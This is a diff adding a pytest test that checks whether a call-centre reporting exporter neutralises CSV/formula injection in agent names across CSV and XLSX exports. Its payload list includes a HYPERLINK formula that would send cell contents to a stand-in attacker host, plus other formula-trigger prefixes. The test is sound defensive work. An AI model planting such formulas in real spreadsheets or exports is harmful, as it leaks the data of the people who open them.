@@ -277,3 +277,45 @@ def test_a_worker_stopped_mid_export_gives_it_back(sign_in, db, dataset, stack):
     assert row["error"] == "given back by worker pytest-exporter (it stopped or reconnected)"
     assert loop.metrics.registry.get_sample_value(
         "reporting_exports_total", {"format": "csv", "result": "requeued"}) == 1
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A1,"clic")', "+1+1", "-2+3", "@SUM(A1)",
+            "\tcmd", "\r=1"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_name_typed_as_a_formula_reaches_the_export_as_text(sign_in, db, dataset, exporter,
+                                                              fmt):
+    """OWASP's CSV injection: an agent names itself `=HYPERLINK(...)`; the supervisor's file
+    shows the text and no spreadsheet runs it."""
+    agent = sign_in("agent1@demo.test")
+    before, other = (db.execute("select full_name from public.profiles where email = %s",
+                                (email,)).fetchone()[0]
+                     for email in ("agent1@demo.test", "agent2@demo.test"))
+    try:
+        for name in FORMULAS:
+            agent.table("profiles").update({"full_name": name}).eq(
+                "email", "agent1@demo.test").execute()
+            supervisor = sign_in("supervisor1@demo.test")
+            params = {"p_from": str(dataset.day), "p_to": str(dataset.day),
+                      "p_campaign_id": CAMPAIGN_A}
+            row = process(exporter(), db, request(supervisor, "call_detail", params, fmt)["id"])
+            assert row["status"] == "done", row
+            body = httpx.get(row["signed_url"]).content
+            if fmt == "csv":
+                lines = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
+                agents = {line["agent"] for line in lines if line["agent"] != other}
+                assert agents == {"'" + name}, (name, agents)
+            else:
+                sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+                header = [c.value for c in sheet[1]]
+                cells = [r[header.index("agent")] for r in sheet.iter_rows(min_row=2)]
+                # XML reads a CR back as LF (line-end normalisation); the text is the same.
+                mine = [c for c in cells if c.value == name.replace("\r", "\n")]
+                assert mine, (name, [c.value for c in cells])
+                # A string cell with Excel's quote prefix: shown as typed, never evaluated.
+                assert all(c.data_type == "s" and c.quotePrefix for c in mine)
+                assert not [c for c in cells if c.data_type == "f"]
+    finally:
+        db.execute("update public.profiles set full_name = %s where email = 'agent1@demo.test'",
+                   (before,))
